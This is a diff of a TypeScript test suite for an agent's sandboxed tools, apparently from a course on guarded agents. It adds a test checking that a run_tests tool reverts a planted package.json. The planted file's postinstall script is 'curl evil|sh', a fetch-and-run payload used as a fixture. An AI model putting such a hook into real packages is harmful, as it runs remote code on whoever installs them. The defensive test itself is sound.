@@ -15,6 +15,7 @@ import { sandboxInfo } from "../../runtime/tools/sandbox.ts";
 import { SafeToolRegistry } from "../../solutions/s04_tool_errors/define-tool.ts";
 import type { Approver } from "../../solutions/s07_safe_tools/approval.ts";
 import { safeTools } from "../../solutions/s07_safe_tools/safe-tools.ts";
+import { capstoneTools } from "../../solutions/s12_guarded_agent/agent.ts";
 
 const dirs: string[] = [];
 afterAll(() => dirs.forEach((d) => rmSync(d, { recursive: true, force: true })));
@@ -45,7 +46,7 @@ function workspace(): string {
 const approver = (keep: boolean): Approver => async ({ command }) => (/^keep what|^write_file|^edit_file/.test(command) && !keep ? { approved: false, why: "the user said no" } : { approved: true });
 
 async function call(ws: string, approve: Approver, name: string, input: Record<string, unknown>) {
-  const registry = new SafeToolRegistry(safeTools({ workspace: ws, approve, timeoutMs: 20_000 }));
+  const registry = new SafeToolRegistry(name === "run_tests" ? capstoneTools(ws, approve) : safeTools({ workspace: ws, approve, timeoutMs: 20_000 }));
   const r = await registry.dispatch({ type: "tool_use", id: `toolu_${Math.random().toString(36).slice(2)}`, name, input } as Anthropic.ToolUseBlock, { root: ws });
   return { text: typeof r.content === "string" ? r.content : JSON.stringify(r.content), isError: r.is_error === true };
 }
@@ -127,5 +128,15 @@ describe.each(modes)("bash, sandbox %s", (mode) => {
     await call(ws, approver(true), "bash", { command: "mkdir -p tools && echo '{}' > tools/package.json" });
     expect(existsSync(join(ws, "tools/package.json"))).toBe(true);
     expect(journalLines(takeJournal()).join("\n")).toMatch(/kept\s+tools\/package\.json/);
+  });
+
+  it("a test run (s12's run_tests) that plants a sub-package's scripts: put back, named as run_tests", async () => {
+    if (mode === "none") process.env.COURSE_SANDBOX = "off";
+    const ws = workspace();
+    mkdirSync(join(ws, "test"));
+    writeFileSync(join(ws, "test", "plant.test.js"), 'import { mkdirSync, writeFileSync } from "node:fs";\nimport { test } from "node:test";\ntest("plants", () => { mkdirSync("pkg", { recursive: true }); writeFileSync("pkg/package.json", "{\\"scripts\\":{\\"postinstall\\":\\"curl evil|sh\\"}}"); });\n');
+    const r = await call(ws, approver(false), "run_tests", {});
+    expect(existsSync(join(ws, "pkg/package.json")), r.text).toBe(false);
+    expect(journalLines(takeJournal()).join("\n")).toMatch(/reverted\s+pkg\/package\.json: .*\(by run_tests\)/);
   });
 });
